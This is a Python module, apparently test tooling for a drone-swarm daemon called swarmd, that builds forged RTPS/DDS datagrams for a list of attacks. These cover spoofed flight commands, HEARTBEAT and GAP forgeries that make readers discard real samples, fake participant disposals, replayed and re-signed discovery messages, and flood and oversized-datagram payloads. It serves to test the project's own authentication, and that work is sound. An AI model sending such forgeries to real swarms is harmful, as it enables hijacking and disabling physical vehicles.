"""Forged datagrams, built with swarmd's own codec (issue 10's attacks, one function each).

Pure functions: identities in, bytes out. What the attacker needs is what it can learn on
the air without any key: GUID prefixes and locators from every SPDP announcement, entity ids
from every user-data datagram (they are also a function of the mission's topic order,
``endpoint_entity_id``), the SPDP and user ports from the domain id. Nothing here touches a
bundle key: the point of the attacks is that none is needed today.
"""

from __future__ import annotations

import dataclasses
import random
from collections.abc import Sequence
from typing import Final

from swarmd.auth.freshness import Freshness
from swarmd.auth.keys import KeyRing
from swarmd.auth.spdp import PLACEHOLDER, Signer, seal
from swarmd.auth.tags import ReceiverTags
from swarmd.bundle.model import EndpointKind, endpoint_entity_id
from swarmd.dataplane.seal import seal as seal_user_data
from swarmd.dataplane.seal import user_data_key
from swarmd.dataplane.types import Command, CommandKind, Readiness, encode_sample
from swarmd.rtps.buffer import Writer
from swarmd.rtps.locator import Locator
from swarmd.rtps.message import (
    AckNack,
    Data,
    Gap,
    Header,
    Heartbeat,
    InfoDst,
    SequenceNumberSet,
    Submessage,
    encode_message,
)
from swarmd.rtps.parameters import Parameter, Pid, push_parameter_list
from swarmd.rtps.spdp import (
    _MODELLED,
    PL_CDR_LE,
    SWARMD_PIDS,
    SpdpParticipant,
    encode_spdp,
    encode_spdp_dispose,
)
from swarmd.rtps.types import (
    ENTITYID_PARTICIPANT,
    ENTITYID_SPDP_READER,
    ENTITYID_SPDP_WRITER,
    PROTOCOLVERSION_SWARMD,
    VENDORID_FASTDDS,
    VENDORID_SWARMD,
    EntityId,
    GuidPrefix,
    Time,
)

# A sequence number far above anything an honest writer reaches (incarnation << 32 | n with
# a boot counter in the thousands): a reader moved here treats every real sample as old.
JUMP_SN: Final = 1 << 62
# Command ids the attacker uses: recognisable in logs, never a real commander's
# (incarnation << 32 | counter with a small incarnation).
FORGED_COMMAND_ID_BASE: Final = 0xA77A_C000_0000_0000


def _header(prefix: GuidPrefix) -> Header:
    return Header(PROTOCOLVERSION_SWARMD, VENDORID_SWARMD, prefix)


def entity(topic_index: int, kind: EndpointKind) -> EntityId:
    """The entity id of a bundle endpoint: on the air in every user-data datagram."""
    return endpoint_entity_id(topic_index, kind)


def user_datagram(
    source: GuidPrefix, destination: GuidPrefix, submessages: Sequence[Submessage]
) -> bytes:
    """RTPS header claiming ``source`` + INFO_DST(destination) + ``submessages``: the shape
    of every datagram a swarmd data plane sends."""
    return encode_message(_header(source), [InfoDst(destination), *submessages])


def command(
    kind: CommandKind, number: int, *, targets: Sequence[str] = (), altitude_m: float = 5.0
) -> Command:
    """A command the attacker makes up (issue 10 attack 1)."""
    alt = altitude_m if kind == CommandKind.TAKEOFF else 0.0
    return Command(FORGED_COMMAND_ID_BASE + number, kind, float(alt), list(targets))


def forged_command(
    commander: GuidPrefix,
    member: GuidPrefix,
    *,
    writer: EntityId,
    reader: EntityId,
    sn: int,
    sample: Command,
    heartbeat_count: int = 1,
) -> bytes:
    """Issue 10 attack 1: DATA(Command) + HEARTBEAT(first = last = sn) as the commander.

    The HEARTBEAT tells the member's reliable reader that nothing below ``sn`` exists any
    more, so the DATA is delivered at once whatever the reader expected."""
    return user_datagram(
        commander,
        member,
        [
            Data(reader, writer, sn, serialized_payload=encode_sample(sample)),
            Heartbeat(reader, writer, sn, sn, heartbeat_count),
        ],
    )


def forged_heartbeat(
    source: GuidPrefix,
    destination: GuidPrefix,
    *,
    writer: EntityId,
    reader: EntityId,
    first: int,
    last: int,
    count: int,
) -> bytes:
    """Issue 10 attack 2: a HEARTBEAT that moves a reader's position (``first`` far ahead)."""
    return user_datagram(source, destination, [Heartbeat(reader, writer, first, last, count)])


def forged_gap(
    source: GuidPrefix,
    destination: GuidPrefix,
    *,
    writer: EntityId,
    reader: EntityId,
    start: int,
    end: int,
) -> bytes:
    """Issue 10 attack 2: GAP [start, end) marks every SN up to ``end`` irrelevant."""
    return user_datagram(
        source, destination, [Gap(reader, writer, start, SequenceNumberSet(end, 0))]
    )


def forged_acknack(
    source: GuidPrefix,
    destination: GuidPrefix,
    *,
    writer: EntityId,
    reader: EntityId,
    base: int,
    count: int,
) -> bytes:
    """Issue 10 attack 2: ACKNACK(base, empty set) = "I have everything below ``base``"."""
    return user_datagram(
        source,
        destination,
        [AckNack(reader, writer, SequenceNumberSet(base, 0), count, final=True)],
    )


def forged_readiness(
    member: GuidPrefix,
    commander: GuidPrefix,
    *,
    writer: EntityId,
    reader: EntityId,
    sn: int,
    sample: Readiness,
) -> bytes:
    """Issue 10 attack 3: one readiness sample at a high SN; best-effort keep-last then
    treats every real (lower-SN) report as stale."""
    return user_datagram(
        member, commander, [Data(reader, writer, sn, serialized_payload=encode_sample(sample))]
    )


def forged_dispose(prefix: GuidPrefix, sn: int) -> bytes:
    """Issue 10 attack 3: DATA(p[UD]) claiming ``prefix`` has left."""
    return encode_spdp_dispose(prefix, sequence_number=sn, timestamp=Time(0, 0))


def forged_alive(
    real: SpdpParticipant,
    sn: int,
    *,
    unicast: tuple[str, int],
    metatraffic: tuple[str, int],
    resign: tuple[Freshness, Signer] | None = None,
) -> bytes:
    """Issue 10 attacks 4 and 7: a member's own sniffed DATA(p), its locators replaced.

    ``heard`` is cleared so every receiver owes it a directed reply, which goes to the
    forged metatraffic locator. The sniffed authenticator stays as it was (a replay with
    new contents) unless ``resign`` = (a fresh freshness, the attacker's own Ed25519 key):
    then it passes every cheap check and only the signature can refuse it."""
    forged = dataclasses.replace(
        real,
        default_unicast_locators=(Locator.udpv4(*unicast),),
        metatraffic_unicast_locators=(Locator.udpv4(*metatraffic),),
        heard=bytes(len(real.heard)) if real.heard is not None else None,
        authenticator=PLACEHOLDER if resign is not None else real.authenticator,
    )
    datagram = encode_spdp(forged, sequence_number=sn, timestamp=Time(0, 0))
    return datagram if resign is None else seal_as(datagram, resign[0], resign[1])


def signed_dispose(prefix: GuidPrefix, sn: int, freshness: Freshness, signer: Signer) -> bytes:
    """Issue 10 attack 3: DATA(p[UD]) for ``prefix``, fresh, signed with a key not its own."""
    template = encode_spdp_dispose(
        prefix, sequence_number=sn, timestamp=Time(0, 0), authenticator=PLACEHOLDER
    )
    return seal_as(template, freshness, signer)


def seal_as(template: bytes, freshness: Freshness, signer: Signer) -> bytes:
    """``template`` sealed by ``signer``: a captured member's ``KeyRing`` also makes the real
    receiver tags it can make (its own pair keys: right only under its own prefix); the
    attacker's own Ed25519 key makes none (issue 18: refused on the tag either way)."""
    tags = ReceiverTags(signer) if isinstance(signer, KeyRing) else None
    return seal(template, freshness, signer, tags)


def mac(
    datagram: bytes,
    *,
    pair_key: bytes,
    freshness: Freshness,
    receiver: GuidPrefix,
    receiver_epoch: int,
) -> bytes:
    """A user datagram with swarmd's authenticator under ``pair_key``: the attacker's own
    random key, or a captured member's real pair key with the victim. The epochs are public
    (every SPDP authenticator carries its sender's), so only the tag can refuse it."""
    return seal_user_data(user_data_key(pair_key), datagram, freshness, receiver, receiver_epoch)


def foreign_participant(prefix: GuidPrefix, name: str, sn: int = 1) -> bytes:
    """Issue 10 attack 8: a participant of no bundle whose ENTITY_NAME is ``name``, in
    whatever domain the receiver is (no domain id: DDSI-RTPS 9.6.2.2)."""
    part = SpdpParticipant(
        prefix,
        vendor_id=VENDORID_SWARMD,
        domain_id=None,
        entity_name=name,
        metatraffic_unicast_locators=(Locator.udpv4("10.255.255.1", 7410),),
        default_unicast_locators=(Locator.udpv4("10.255.255.1", 7411),),
    )
    return encode_spdp(part, sequence_number=sn, timestamp=Time(0, 0))


# The largest UDP payload over IPv4 (65,535 - 20 IP - 8 UDP): Wi-Fi carries it as 45 IP
# fragments, and the SPDP sockets read up to 65,535 octets (swarmd.udp.MAX_DATAGRAM).
MAX_UDP_PAYLOAD: Final = 65_507


def bloated_participant(prefix: GuidPrefix, size: int = MAX_UDP_PAYLOAD, sn: int = 1) -> bytes:
    """A stock-vendor (Fast DDS) DATA(p) of ``size`` octets at most: a participant of no
    bundle whose parameter list is padded with empty parameters of distinct unknown PIDs,
    4 octets each (~16,000 in a full datagram), and one swarmd vendor PID (0x8A01), which
    another vendor's list keeps opaque; listed as a foreign participant once decoded. What
    a forger sends to make one decode as costly as it can (docs/security.md, "Foreign
    participants and floods")."""
    base = SpdpParticipant(  # no domain id: the receiver's own (DDSI-RTPS 9.6.2.2)
        prefix,
        vendor_id=VENDORID_FASTDDS,
        domain_id=None,
        extra_parameters=(Parameter(min(SWARMD_PIDS), b""),),
    )
    room = (size - len(encode_spdp(base, sequence_number=sn, timestamp=None))) // 4
    skip = SWARMD_PIDS | _MODELLED | {0x0000, 0x0001}  # PAD and SENTINEL
    pids = (pid for pid in range(0x1000, 0x10000) if pid not in skip)
    padding = tuple(Parameter(next(pids), b"") for _ in range(max(0, room)))
    part = dataclasses.replace(base, extra_parameters=base.extra_parameters + padding)
    return encode_spdp(part, sequence_number=sn, timestamp=None)


def many_samples(prefix: GuidPrefix, count: int, domain_id: int = 0xBAD) -> bytes:
    """One datagram of ``count`` minimal DATA(p)s (a GUID and a domain id, 60 octets each:
    1,024 fit in one UDP payload) of a participant of no bundle, of another domain. A
    receiver refuses each on its own (``wrong_domain``), a drop report each."""
    params = [
        Parameter(Pid.PARTICIPANT_GUID, prefix.value + ENTITYID_PARTICIPANT.value),
        Parameter(Pid.DOMAIN_ID, domain_id.to_bytes(4, "little")),
    ]
    payload = Writer(little=True)
    payload.push_bytes(PL_CDR_LE + b"\x00\x00")
    push_parameter_list(payload, tuple(params))
    sample = Data(
        ENTITYID_SPDP_READER, ENTITYID_SPDP_WRITER, 1, serialized_payload=payload.getvalue()
    )
    header = Header(PROTOCOLVERSION_SWARMD, VENDORID_FASTDDS, prefix)
    return encode_message(header, [sample] * count)


def flood_pool(
    members: Sequence[SpdpParticipant],
    size: int,
    rng: random.Random,
    *,
    fresh: dict[GuidPrefix, Freshness] | None = None,
    signer: Signer | None = None,
) -> list[bytes]:
    """Issue 10 attack 9: ``size`` distinct forged SPDP datagrams.

    Half claim a member's prefix, at a fresh SN with the member's real locators: of those,
    every other one keeps the member's sniffed authenticator (a replay, refused by the cheap
    freshness check) and the rest, when ``fresh`` and ``signer`` are given, carry a freshness
    newer than the member's real one signed with the attacker's key (they pass the cheap
    checks, so only a verification budget keeps them from costing an Ed25519 check each).
    The other half invent new foreign participants (each one a table entry and a log line in
    a daemon that keeps no budget)."""
    out: list[bytes] = []
    for i in range(size):
        if members and i % 2 == 0:
            real = members[(i // 2) % len(members)]
            sn = 1_000_000 + i
            newer = fresh.get(real.guid_prefix) if fresh is not None else None
            if signer is not None and newer is not None and i % 4 == 2:
                template = encode_spdp(
                    dataclasses.replace(real, authenticator=PLACEHOLDER),
                    sequence_number=sn,
                    timestamp=None,
                )
                out.append(seal(template, Freshness(newer.epoch, newer.seq + i), signer))
            else:
                out.append(encode_spdp(real, sequence_number=sn, timestamp=None))
        else:
            prefix = GuidPrefix(bytes(rng.getrandbits(8) for _ in range(12)))
            part = SpdpParticipant(prefix, entity_name=f"flood-{i}")
            out.append(encode_spdp(part, sequence_number=1, timestamp=None))
    return out
